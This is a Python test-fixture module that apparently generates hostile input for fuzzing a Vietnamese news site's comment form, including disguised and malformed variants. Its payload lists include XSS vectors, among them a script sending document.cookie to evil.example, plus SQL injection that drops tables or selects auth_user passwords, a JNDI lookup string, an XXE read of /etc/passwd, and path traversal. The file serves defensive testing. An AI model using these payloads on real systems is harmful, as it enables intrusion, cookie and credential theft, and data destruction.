"""Hostile input for the comment form, generated from parts.

`texts()` gives several hundred strings a reader (or a bot) could type into any field:
markup that runs (script tags, event handlers, `javascript:` URLs, SVG and MathML),
entity tricks, template and SQL injection, and each of them disguised (inside a
Vietnamese sentence, with zero-width characters or NUL inside the tag, wrapped in
bidirectional overrides, with homoglyphs, full-width brackets or mixed case); Vietnamese
text damaged in the ways text gets damaged (NFD, invisible characters inside letters,
control characters); emoji (ZWJ sequences, flags, skin tones); very long words.

`raw_requests()` gives what cannot be typed: broken UTF-8 sent as raw bytes, odd
charsets and content types, 10,000 fields, bodies over 2.5 MB, huge single fields,
malformed multipart bodies, hostile headers.
"""

import unicodedata
from dataclasses import dataclass, field

SENTENCES = [
    "Nguyễn Văn Đức",
    "Trần Thị Hồng Nhung",
    "Đề nghị huyện sớm sửa đường liên xã",
    "Tôi đồng tình với chủ trương xây dựng nông thôn mới của Đảng bộ huyện.",
    "Người dân phường Ngọc Hà mong được giải đáp về giá đất.",
    "Ủy ban nhân dân xã Thượng Lâm cần công khai ngân sách.",
]

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) `",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>chữ chạy</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<x onclick=alert(1)>bấm vào đây</x>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<a href=\"javascript:alert(1)\">bấm vào đây</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\"https://evil.example\" target=_blank>xem thêm</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>gửi</button></form>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>bấm</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "&amp;lt;b&amp;gt;đậm&amp;lt;/b&amp;gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "[url=javascript:alert(1)]bấm[/url]",
    "[bấm](javascript:alert(1))",
    "<b>chữ đậm</b> <i>nghiêng</i> <u>gạch</u>",
    "<p>Đoạn 1</p><p>Đoạn 2</p>",
]

INJECTION = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE comments_comment; --",
    "1; DELETE FROM wagtailcore_page; --",
    "' UNION SELECT username, password FROM auth_user --",
    "%' AND 1=0 UNION SELECT NULL, NULL --",
    "1' AND SLEEP(5) AND '1'='1",
    "'; SELECT pg_sleep(5); --",
    "admin'--",
    "{{ 7*7 }}",
    "{{ request.META }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%s%s%s%s%n",
    "{0}{1}{__class__}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "Dòng\r\nSet-Cookie: phien=gia",
    "${jndi:ldap://evil.example/a}",
    "null",
    "undefined",
    "None",
    "NaN",
    "-1",
    "1e309",
    "[]",
    "{}",
    "true",
]

EMOJI = [
    "Rất hay 👍👍👍",
    "Việt Nam 🇻🇳 muôn năm",
    "Cả nhà 👨\u200d👩\u200d👧\u200d👦 đều đọc",
    "👩🏽\u200d💻 lập trình viên",
    "🏳️\u200d🌈 cờ",
    "❤️❤️❤️ cảm ơn",
    "Số 1️⃣ 2️⃣ 3️⃣",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f cờ Scotland",
    "😀" * 300,
    "🙂\ufe0f" * 50,
]

ODD = [
    " ",
    "\u00a0\u3000\u2003",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u202e\u202d\u2066\u2067\u2068\u2069",
    "\x00",
    "\x00" * 20 + "Nội dung sau các ký tự NUL",
    "".join(chr(code) for code in range(1, 32)) + "Ký tự điều khiển",
    "\x1b[31mđỏ\x1b[0m \x9b31m",
    "\x7f\x80\x85\x9f giữa C1",
    "\ufffd\ufffd chữ lỗi",
    "\ufffe\uffff không phải ký tự",
    "\ue000\U000f0000 vùng riêng",
    "\u2028dòng\u2029đoạn",
    "\r\n" * 40 + "Sau nhiều dòng trống",
    "\t\tThụt\tđầu dòng",
    "a\u0301" * 200,
    "Z" + "\u0336\u0335\u0334\u0337" * 300,
    "ư" * 5001,
    "a" * 20000,
    "https://" + "a" * 3000 + ".vn",
    "http://a.vn " * 40,
    "Xem www.tin-gia.com, tin-gia.xyz, ban-hang.top và https://x.example/?q=<b>",
    "mailto:bandoc@example.vn",
    "\u0130stanbul \u0131 İİ ﬁ ß ẞ",
    "ＳＣＲＩＰＴ ａｌｅｒｔ（１）",
    "Ǆǅǆ Ωℌℍ ㎒ ½",
]

HOMOGLYPHS = str.maketrans({
    "a": "а", "c": "с", "e": "е", "o": "о", "p": "р", "x": "х", "y": "у", "i": "і",
    "s": "ѕ", "A": "Α", "B": "Β", "E": "Ε", "H": "Η", "O": "Ο", "T": "Τ",
})
FULLWIDTH = str.maketrans({"<": "＜", ">": "＞", "/": "／", "\"": "＂", "'": "＇", "=": "＝",
                           "(": "（", ")": "）", ":": "："})
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066"]
CONTROLS = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9b"]


def interleave(text, marks):
    """A mark (cycling through `marks`) after every character."""
    return "".join(ch + marks[i % len(marks)] for i, ch in enumerate(text))


def inside_tag_names(text, mark):
    """`<scr\u200bipt>`: the mark splits each tag name, so the tag only appears once the
    mark is removed."""
    out, in_tag = [], False
    for i, ch in enumerate(text):
        out.append(ch)
        if ch == "<":
            in_tag = True
        elif in_tag and ch.isalpha() and i + 1 < len(text) and text[i + 1].isalpha():
            out.append(mark)
            in_tag = False
    return "".join(out)


def inside_letters(text, mark):
    """NFD with `mark` between each base letter and its combining marks: once the mark
    is removed, the letter must be composed again."""
    out = []
    for ch in unicodedata.normalize("NFD", text):
        if unicodedata.combining(ch) and out and not unicodedata.combining(out[-1][-1]):
            out.append(mark)
        out.append(ch)
    return "".join(out)


def mixed_case(text):
    return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(text))


MARKUP_DISGUISES = {
    "as is": lambda t: t,
    "in a sentence": lambda t: f"Tôi xin góp ý {t} cho bài viết này.",
    "zero-width in tag": lambda t: inside_tag_names(t, "\u200b"),
    "NUL in tag": lambda t: inside_tag_names(t, "\x00"),
    "RTL override": lambda t: f"\u202e{t}\u202c",
    "homoglyphs": lambda t: t.translate(HOMOGLYPHS),
    "full-width": lambda t: t.translate(FULLWIDTH),
    "mixed case": mixed_case,
}

TEXT_DAMAGE = {
    "NFD": lambda t: unicodedata.normalize("NFD", t),
    "zero-width between characters": lambda t: interleave(t, ["\u200b", "\u200d", "\ufeff"]),
    "invisible inside letters": lambda t: inside_letters(t, "\u200d"),
    "bidi inside letters": lambda t: inside_letters(t, "\u202e"),
    "control inside letters": lambda t: inside_letters(t, "\x01"),
    "bidi isolates": lambda t: f"\u2067{t}\u2069\u200f",
    "control characters": lambda t: interleave(t, CONTROLS),
    "homoglyphs": lambda t: t.translate(HOMOGLYPHS),
    "emoji": lambda t: f"{t} 🇻🇳👍🏽👨\u200d👩\u200d👧",
}


@dataclass(frozen=True)
class Case:
    label: str
    text: str


def texts():
    """Every typed case once (the same string reached two ways counts once)."""
    cases = {}

    def add(label, text):
        cases.setdefault(text, Case(label, text))

    for n, vector in enumerate(MARKUP):
        for name, disguise in MARKUP_DISGUISES.items():
            add(f"markup {n} {name}", disguise(vector))
    for n, sentence in enumerate(SENTENCES):
        add(f"Vietnamese {n}", sentence)
        for name, damage in TEXT_DAMAGE.items():
            add(f"Vietnamese {n} {name}", damage(sentence))
    for n, text in enumerate(INJECTION):
        add(f"injection {n}", text)
        add(f"injection {n} in a sentence", f"Ý kiến: {text} hết.")
    for n, text in enumerate(EMOJI):
        add(f"emoji {n}", text)
    for n, text in enumerate(ODD):
        add(f"odd {n}", text)
        add(f"odd {n} around Vietnamese", f"{text}{SENTENCES[3]}{text}")
    return list(cases.values())


@dataclass
class RawRequest:
    """A request the test client sends as is: `body` bytes of `content_type`."""

    label: str
    body: bytes = b""
    content_type: str = "application/x-www-form-urlencoded"
    headers: dict = field(default_factory=dict)
    method: str = "post"


BOUNDARY = "----toasoan-thu-nghiem"


def multipart(fields, boundary=BOUNDARY, files=()):
    """`fields`: (name, value bytes) pairs; `files`: (name, filename, bytes) triples."""
    parts = []
    for name, value in fields:
        parts.append(b"--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n"
                     % (boundary.encode(), name, value))
    for name, filename, value in files:
        parts.append(b"--%s\r\nContent-Disposition: form-data; name=\"%s\"; filename=\"%s\""
                     b"\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n"
                     % (boundary.encode(), name, filename, value))
    return b"".join(parts) + b"--%s--\r\n" % boundary.encode()


BROKEN_UTF8 = {
    "truncated sequence": b"Nguy\xe1\xbb",
    "lone continuation bytes": b"Tr\x80\x80n \xbf",
    "overlong <": b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "UTF-16 surrogate (CESU-8)": b"ch\xed\xa0\x80\xed\xb0\x80",
    "invalid bytes": b"\xfe\xff\xff\xfe",
    "Latin-1 bytes": "Nguyễn Văn Đức".encode()[:-1] + b" \xe0\xe1\xe2",
    "Windows-1258": unicodedata.normalize("NFD", "Việt Nam").encode("cp1258", "replace"),
}


def raw_requests(fresh):
    """Yield the raw cases one by one; `fresh()` gives a valid form as (name, str value)
    pairs, with its own captcha, so that each case fails only for what it breaks."""
    from urllib.parse import quote_from_bytes

    def encoded():
        return [(name, value.encode()) for name, value in fresh()]

    def urlencoded(pairs, raw=False):
        return b"&".join(
            name + b"=" + (value if raw else quote_from_bytes(value).encode())
            for name, value in ((n.encode(), v) for n, v in pairs))

    def replaced(name, value):
        return [(n, value if n == name else v) for n, v in encoded()]

    def form_multipart(extra=(), files=()):
        return multipart([(n.encode(), v) for n, v in encoded()] + list(extra), files=files)

    mixed = f"multipart/form-data; boundary={BOUNDARY}"
    for field_name in ("name", "title", "content", "phone", "captcha_0", "captcha_1", "shown",
                       "consent"):
        for label, broken in BROKEN_UTF8.items():
            yield RawRequest(f"{field_name}: {label}, raw bytes",
                             urlencoded(replaced(field_name, broken), raw=True))
            yield RawRequest(f"{field_name}: {label}, percent-encoded",
                             urlencoded(replaced(field_name, broken)))
            yield RawRequest(f"{field_name}: {label}, multipart",
                             multipart([(n.encode(), v) for n, v in replaced(field_name, broken)]),
                             mixed)

    def body():
        return urlencoded(encoded())

    form = "application/x-www-form-urlencoded"
    utf7 = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    old_codepage = unicodedata.normalize("NFD", "Nội dung bằng bảng mã cũ").encode("cp1258",
                                                                                     "replace")
    yield RawRequest("UTF-7 charset", urlencoded(replaced("content", utf7)),
                     f"{form}; charset=utf-7")
    yield RawRequest("UTF-16 charset", body(), f"{form}; charset=utf-16")
    yield RawRequest("unknown charset", body(), f"{form}; charset=xyz-99")
    yield RawRequest("Windows-1258 charset",
                     urlencoded(replaced("content", old_codepage), raw=True),
                     f"{form}; charset=windows-1258")
    yield RawRequest("JSON body", b'{"name": "An", "content": "<script>alert(1)</script>"}',
                     "application/json")
    yield RawRequest("plain text body", body(), "text/plain")
    yield RawRequest("XML body", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM "
                     b"'file:///etc/passwd'>]><x>&e;</x>", "application/xml")
    yield RawRequest("no content type", body(), "")
    yield RawRequest("empty body", b"")
    yield RawRequest("only separators", b"&&&===&&&")
    yield RawRequest("10,000 fields", body() + b"".join(b"&f%d=x" % i for i in range(10_000)))
    yield RawRequest("10,000 values of one field", body() + b"&content=x" * 10_000)
    yield RawRequest("body over 2.5 MB", body() + b"&padding=" + b"x" * 2_700_000)
    yield RawRequest("huge content field (2 MB)",
                     urlencoded(replaced("content", "Nội dung rất dài. ".encode() * 90_000)))
    yield RawRequest("huge name field (1 MB)", urlencoded(replaced("name", b"A" * 1_000_000)))
    yield RawRequest("huge phone field", urlencoded(replaced("phone", b"0" * 500_000)))
    yield RawRequest("huge captcha key", urlencoded(replaced("captcha_0", b"f" * 500_000)))
    yield RawRequest("hostile field names",
                     body() + b"&%3Cscript%3Ealert(1)%3C%2Fscript%3E=1&na%00me=x&" + b"k" * 5000
                     + b"=v")
    yield RawRequest("multipart over 2.5 MB", form_multipart([(b"padding", b"x" * 2_700_000)]),
                     mixed)
    yield RawRequest("multipart with 200 files",
                     form_multipart(files=[(b"f%d" % i, b"a.txt", b"x") for i in range(200)]),
                     mixed)
    yield RawRequest("multipart with a 3 MB file",
                     form_multipart(files=[(b"tep", b"../../<script>.html", b"x" * 3_000_000)]),
                     mixed)
    yield RawRequest("multipart without boundary", multipart([(b"name", b"An")]),
                     "multipart/form-data")
    yield RawRequest("multipart with the wrong boundary", multipart([(b"name", b"An")]),
                     "multipart/form-data; boundary=khac")
    yield RawRequest("multipart with an over-long boundary", multipart([(b"name", b"An")]),
                     "multipart/form-data; boundary=" + "b" * 2000)
    yield RawRequest("truncated multipart", form_multipart()[:200], mixed)
    yield RawRequest("multipart with NUL in names",
                     multipart([(b"na\x00me", b"An"), (b"content\x00", b"x\x00y")]), mixed)
    yield RawRequest("user agent with NUL and controls", body(),
                     headers={"HTTP_USER_AGENT": "Mozilla\x00/5.0 \x01\x1b[31m\u202e<script>"})
    yield RawRequest("very long user agent", body(), headers={"HTTP_USER_AGENT": "M" * 100_000})
    yield RawRequest("user agent in broken encoding", body(),
                     headers={"HTTP_USER_AGENT": "Trình duyệt".encode().decode("latin-1")})
    yield RawRequest("hostile Accept", body(),
                     headers={"HTTP_ACCEPT": "application/json\x00<script>, */*;q=abc"})
    yield RawRequest("HEAD", method="head")
    yield RawRequest("PUT", body(), method="put")
    yield RawRequest("DELETE", method="delete")
    yield RawRequest("PATCH", body(), method="patch")
    yield RawRequest("OPTIONS", method="options")
